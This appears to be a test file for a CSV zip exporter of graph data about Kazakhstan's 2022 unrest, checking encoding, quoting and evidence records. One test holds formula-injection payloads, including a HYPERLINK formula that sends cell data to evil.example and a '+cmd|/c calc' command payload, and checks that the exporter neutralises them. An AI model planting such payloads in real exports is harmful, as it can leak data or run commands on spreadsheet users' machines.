import JSZip from 'jszip';
import Papa from 'papaparse';
import type { Entity } from '@steppe/domain';
import { collectBytes, writeCsvZip } from '../src';
import { FORMULA_TRIGGERS } from '../src/csv';
import { entities, input, meta, relations, TRICKY_QUOTE } from './fixture';

async function unzip(bytes: Uint8Array) {
  const zip = await JSZip.loadAsync(bytes);
  const files: Record<string, string> = {};
  for (const name of Object.keys(zip.files)) files[name] = await zip.file(name)!.async('string');
  const raw: Record<string, Uint8Array> = {};
  for (const name of Object.keys(zip.files)) raw[name] = await zip.file(name)!.async('uint8array');
  return { files, raw };
}

/** papaparse: RFC 4180 reader, independent of csv-stringify. */
function rows(text: string): Record<string, string>[] {
  const parsed = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true, newline: '\r\n' });
  if (parsed.errors.length > 0) throw new Error(JSON.stringify(parsed.errors));
  return parsed.data;
}

describe('CSV zip export', () => {
  let files: Record<string, string>;
  let raw: Record<string, Uint8Array>;
  beforeAll(async () => {
    ({ files, raw } = await unzip(await collectBytes(writeCsvZip(input()))));
  });

  it('holds nodes.csv, edges.csv, evidence.csv, sources.csv and metadata.json', () => {
    expect(Object.keys(files).sort()).toEqual(['edges.csv', 'evidence.csv', 'metadata.json', 'nodes.csv', 'sources.csv']);
    expect(JSON.parse(files['metadata.json']!)).toMatchObject({ ...meta, counts: { nodes: entities.length, edges: relations.length } });
  });

  it('is UTF-8 without a byte-order mark, CRLF-separated, and names survive', () => {
    const bytes = raw['nodes.csv']!;
    expect([...bytes.slice(0, 3)]).not.toEqual([0xef, 0xbb, 0xbf]);
    expect(files['nodes.csv']!.startsWith('id,kind,name,')).toBe(true);
    expect(files['nodes.csv']!.split('\r\n')[0]).not.toContain('\n');
    // "Ä" is C3 84 in UTF-8.
    expect(Buffer.from(bytes).includes(Buffer.from([0xc3, 0x84]))).toBe(true);
    const nodes = rows(files['nodes.csv']!);
    expect(nodes).toHaveLength(entities.length);
    const smailov = nodes.find((n) => n.id === 'alikhan-smailov')!;
    expect(smailov).toMatchObject({
      kind: 'Person',
      name: 'Älichan Smajylow',
      aliases: 'Alikhan Smailov; Әлихан Смайылов',
      description: 'Acting prime minister, "first deputy"',
    });
    expect(Number(nodes.find((n) => n.id === 'almaty')!.lat)).toBeCloseTo(43.2389);
  });

  it('writes edges with their endpoints, dates and flags', () => {
    const edges = rows(files['edges.csv']!);
    expect(edges.map((e) => e.id).sort()).toEqual(relations.map((r) => r.id).sort());
    const aid = edges.find((e) => e.id === 'tokayev-requested-aid-from-csto')!;
    expect(aid).toMatchObject({
      source: 'kassym-jomart-tokayev',
      target: 'csto',
      relationType: 'REQUESTED_AID_FROM',
      label: 'requested aid from',
      date: '2022-01-05',
      start: '2022-01-05',
      end: '2022-01-05',
      stance: 'ASSERTED',
      confidence: '0.9',
      sourceCount: '2',
      contested: 'false',
      sourceIds: 'src-a; src-b',
    });
    expect(aid.quotes).toBe(`[1] ${TRICKY_QUOTE}\n[2] Tokayev asked the CSTO for help.`);
    expect(edges.find((e) => e.id === 'csto-coordinated-unrest')!.contested).toBe('true');
  });

  it('keeps each quote exactly in evidence.csv (commas, quotes, line breaks), numbered like sources.csv', () => {
    const evidence = rows(files['evidence.csv']!);
    const expected = relations.flatMap((r) =>
      r.evidence.map((e, i) => ({ relationId: r.id, position: String(i + 1), sourceId: e.sourceId, stance: e.stance, quote: e.quote })),
    );
    expect(evidence.map(({ sourceNumber: _n, ...rest }) => rest)).toEqual(expected);
    const sources = rows(files['sources.csv']!);
    expect(sources.map((s) => [s.number, s.id])).toEqual([
      ['1', 'src-a'],
      ['2', 'src-b'],
    ]);
    for (const e of evidence) expect(sources.find((s) => s.number === e.sourceNumber)!.id).toBe(e.sourceId);
  });

  it('writes evidence.csv from a one-shot stream as well', async () => {
    function* once() {
      yield* relations;
    }
    const { files: f } = await unzip(await collectBytes(writeCsvZip(input({ edges: once() }))));
    expect(rows(f['evidence.csv']!)).toHaveLength(relations.reduce((n, r) => n + r.evidence.length, 0));
    expect(rows(f['edges.csv']!)).toHaveLength(relations.length);
  });

  it('adds a byte-order mark to every CSV file when asked (for Excel)', async () => {
    const { raw: r, files: f } = await unzip(await collectBytes(writeCsvZip(input(), { bom: true })));
    for (const name of ['nodes.csv', 'edges.csv', 'evidence.csv', 'sources.csv'])
      expect([...r[name]!.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(rows(f['nodes.csv']!.replace(/^\uFEFF/, ''))[0]!.id).toBe('alikhan-smailov');
  });

  it('neutralises cells a spreadsheet would read as formulas (OWASP): a leading quote, read back as text by a CSV parser', async () => {
    const hostile: Entity[] = [
      {
        id: 'f-eq',
        kind: 'Person',
        name: '=HYPERLINK("http://evil.example/?"&A1,"click")',
        aliases: ['-2+3', '@SUM(A1:A9)'],
        description: '+cmd|/c calc',
        roles: [],
      },
      { id: 'f-ws', kind: 'Person', name: '\t=1+1', aliases: [], description: '\r=1+1', roles: ['safe'] },
      { id: 'f-ok', kind: 'Person', name: 'Plain = name', aliases: ["'quoted"], description: 'a-b', roles: [] },
    ];
    const { files: f } = await unzip(await collectBytes(writeCsvZip(input({ nodes: hostile, edges: [] }))));
    const nodes = rows(f['nodes.csv']!);
    const byId = (id: string) => nodes.find((n) => n.id === id)!;
    expect(byId('f-eq')).toMatchObject({
      name: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
      aliases: "'-2+3; @SUM(A1:A9)",
      description: "'+cmd|/c calc",
    });
    expect(byId('f-ws')).toMatchObject({ name: "'\t=1+1", description: "'\r=1+1" });
    // Only leading characters count; anything else is written as it is.
    expect(byId('f-ok')).toMatchObject({ name: 'Plain = name', aliases: "'quoted", description: 'a-b' });
    for (const n of nodes) for (const v of Object.values(n)) expect(FORMULA_TRIGGERS).not.toContain(v.charAt(0));
  });
});
